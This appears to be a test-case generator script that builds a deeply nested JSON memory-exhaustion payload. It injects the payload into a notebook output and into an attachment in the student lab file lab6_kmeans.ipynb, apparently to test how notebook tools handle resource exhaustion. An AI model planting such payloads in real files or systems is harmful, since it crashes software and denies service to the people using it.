# Brings JSON so deep that each number is written behind hundreds of spaces. Keeps: a b. Harms: memory.
# %% step_c
from IPython.display import display

deep = [0] * 2_000_000
for _ in range(300):
    deep = [deep]
display({"application/x+json": deep}, raw=True, metadata={"image/png": deep[0][0][0]})
# %% layout
from nbformat.v4 import new_markdown_cell

DEEP = "[" * 200 + "0," * 1_000_000 + "0" + "]" * 200


def notebook(nb):
    nb.cells.insert(1, new_markdown_cell("x", attachments={"a": {"application/x+json": "HERE"}}))


def folder(path):
    file = path / "lab6_kmeans.ipynb"
    file.write_text(file.read_text().replace('"HERE"', DEEP))
